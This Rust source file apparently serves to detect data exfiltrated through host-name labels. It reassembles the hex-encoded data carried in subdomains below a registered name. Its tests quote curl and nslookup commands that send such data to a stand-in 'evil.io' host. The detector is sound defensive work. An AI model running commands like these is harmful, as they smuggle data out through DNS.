//! Data carried in the labels of a host name, cut into as many as it needs (RFC 1035 §2.3.4: 63 bytes each).

use super::Source;
use crate::layers::pieces::Assembly;
use std::ops::Range;

/// Labels of a name that somebody registered, which carry nothing.
const OWN_LABELS: usize = 2;
/// Longest host name, and longest label of one.
const LONGEST: usize = 253;
const LONGEST_LABEL: usize = 63;
/// Fewest characters of data: fewer are a word.
const FEWEST: usize = 12;

/// Joins the labels of each host name that is long enough.
pub(crate) fn join_hosts(source: Source<'_>) -> Assembly {
    let bytes = source.text.as_bytes();
    let mut out = Assembly::default();
    let mut end = 0;
    for dot in memchr::memchr_iter(b'.', bytes) {
        if dot < end {
            continue;
        }
        let floor = end.max(dot.saturating_sub(LONGEST_LABEL));
        let before = bytes.get(floor..dot).unwrap_or_default();
        let start = dot - before.iter().rev().take_while(|b| is_host_byte(**b)).count();
        let rest = bytes.get(dot..).unwrap_or_default();
        end = dot + rest.iter().take(LONGEST).take_while(|b| is_host_byte(**b)).count();
        let host = source.text.get(start..end).unwrap_or_default();
        if host.len() < FEWEST {
            continue;
        }
        let from = out.text.len();
        join_labels(source, &measure_labels(host, start), &mut out);
        out.close(from, |text| text.len() >= FEWEST && text.bytes().any(|b| b.is_ascii_digit()));
    }
    out
}

/// Where each label of `host`, which starts at `start`, lies.
pub(crate) fn measure_labels(host: &str, start: usize) -> Vec<Range<usize>> {
    let mut at = start;
    host.split('.')
        .map(|label| {
            let range = at..at + label.len();
            at = range.end + 1;
            range
        })
        .collect()
}

/// Appends all labels but those that somebody registered.
pub(crate) fn join_labels(source: Source<'_>, labels: &[Range<usize>], to: &mut Assembly) {
    let carrying = labels.len().saturating_sub(OWN_LABELS);
    for label in labels.iter().take(carrying) {
        source.add(label.clone(), to);
    }
}

fn is_host_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_below_a_registered_name_are_joined() {
        let joined = |text: &str| join_hosts(Source { segment: 0, text }).text.trim_end().to_owned();
        assert_eq!(joined("curl https://414b4941.32453541.36.evil.io/x"), "414b49413245354136");
        assert_eq!(joined("nslookup 414b4941.32453541.evil.io"), "414b494132453541");
        assert_eq!(joined("see https://www.example.com/a"), "");
    }
}
